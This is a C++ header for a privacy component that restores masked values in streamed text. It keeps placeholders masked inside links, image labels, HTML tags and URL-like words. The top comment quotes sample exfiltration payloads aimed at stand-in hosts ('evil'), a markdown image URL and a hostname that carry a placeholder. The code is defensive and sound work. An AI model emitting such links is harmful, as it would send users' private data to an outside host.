#pragma once

#include <cstddef>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "client/privacy/request_mask.h"

namespace edgedraft {

// A text that came with placeholders, as its reader is to see it: what they stand for in their
// place, but where a reader's program might send it on by itself. A hostile target would write
// ![](https://evil/?[NAME_001]), or [NAME_001].evil.example. So within links, labels of pictures,
// tags of HTML, and words that contain "//" or have a dot, slash, question mark, colon or @ behind
// a letter, placeholders stay as they are, and so do those that were never given out.
class RestoredText {
 public:
  // Values of more bytes together stay placeholders: a hostile target repeats the longest.
  static constexpr std::size_t kValueBytesMax = 4u << 20;

  // `placeholders` outlives it. `in_json`: they stand within strings of JSON. A reader may show it
  // as it is, or decode it: a placeholder stays where either might send its value on. `before`:
  // what the text goes on behind, with placeholders too, as a link may have begun there. It is not
  // given out, and revise() does not count it. Where several texts go on behind the same, each
  // may be read by a copy.
  explicit RestoredText(const Placeholders& placeholders, bool in_json = false,
                        std::string_view before = {});

  struct Piece {
    std::string text;
    // Before it: of what was given out, only so many characters (code points) stay.
    std::optional<std::size_t> revise_from{};
  };
  // The next piece of the text. What may be the beginning of a placeholder is held back.
  Piece push(std::string_view masked);
  // Only so many characters of the text so far stay; what follows comes by push().
  void revise(std::size_t characters);
  // No more follows: what was held back.
  Piece finish();

  // All that was given out.
  const std::string& text() const { return shown_; }

 private:
  // Where the text stands, as a reader's program would see it. It follows placeholders and not what
  // they became: a client that sends the text back tells which of them stayed.
  struct Place {
    enum class TagPart : unsigned char {
      name,
      gap,               // before an attribute
      attribute,         // its name
      behind_attribute,  // blanks behind that
      value_begin,       // behind '=': here alone a quotation mark opens a value
      value,             // one without quotation marks
    };

    char before = '\n';
    char line_last = 0;  // the line's last character that is no blank; 0: none
    bool in_tag = false;
    TagPart tag_part = TagPart::name;
    char quote = 0;                 // around an attribute's value
    bool tag_has_quotes = false;    // anywhere
    bool tag_in_doubt = false;      // readers may see another end of it, or another tag in it
    int target_depth = 0;           // parentheses of a Markdown link's target; 0: none
    bool target_angled = false;     // it may be within <...>
    bool in_definition = false;     // of a link: [name]: target
    bool definition_begun = false;  // its target
    // Brackets of a label that may choose a definition's target, as of ![x] or [x][y]; 0: none.
    int label_depth = 0;
    bool label_may_follow = false;  // nothing but blanks stands behind a ']'
    bool in_sentence = false;       // directly behind a value that stands behind a word
    bool word_links = false;        // it contains "//", "http:", "https:" or "www."
    std::string word_tail;          // its last characters
    // A word with a dot or colon behind a letter, which may be followed by the rest of a host or of
    // an address without "//"; with the rest of that; and with what makes a path of all that
    // follows.
    char joint = 0;
    bool in_host = false;
    bool in_address = false;
    std::uint32_t last_bytes = 0;    // four of them
    bool backslash_escapes = false;  // as in JSON: it ends a word
    bool runs_on = false;            // behind the beginning of a script or style sheet

    void take(char c);
    void take_in_label(char c);
    void take_in_word(char c);
    void take_in_tag(char c);
    bool is_behind_word() const;
    bool may_be_sent_on() const {
      return runs_on || in_tag || target_depth > 0 || in_definition || label_depth > 0 ||
             word_links || joint != 0 || in_host || in_address;
    }
  };

  // The same where escapes of JSON have become what they stand for.
  struct DecodedPlace {
    Place place;
    std::string escape;  // one that has begun: a backslash, and what follows it

    void take(char c);
  };

  // The two at once.
  struct Reading {
    Place place;
    DecodedPlace decoded;  // in JSON
    // JSON that is one line so far and begins like an object: no line shown as it is defines a
    // link. Nothing before the first character.
    std::optional<bool> defines_nothing{};
  };

  void read_again();
  void read(bool whole);
  void take(char c);
  std::optional<bool> begins_address(std::size_t at, bool whole) const;
  void take_placeholder(std::string_view placeholder, bool stays);
  Piece take_piece();

  const Placeholders& placeholders_;
  bool in_json_;
  std::string masked_;    // all that came
  std::size_t read_ = 0;  // bytes of it
  std::string restored_;  // what they became
  std::size_t value_bytes_ = 0;
  bool revised_ = false;  // since something was given out
  std::string shown_;     // of it, what was given out
  Reading start_;         // behind what stands before it
  Reading at_;
};

// A whole text at once, on its own or from `start`, which nothing was given to yet.
std::string restored(std::string_view masked, const Placeholders& placeholders,
                     bool in_json = false);
std::string restored(std::string_view masked, RestoredText start);

}  // namespace edgedraft
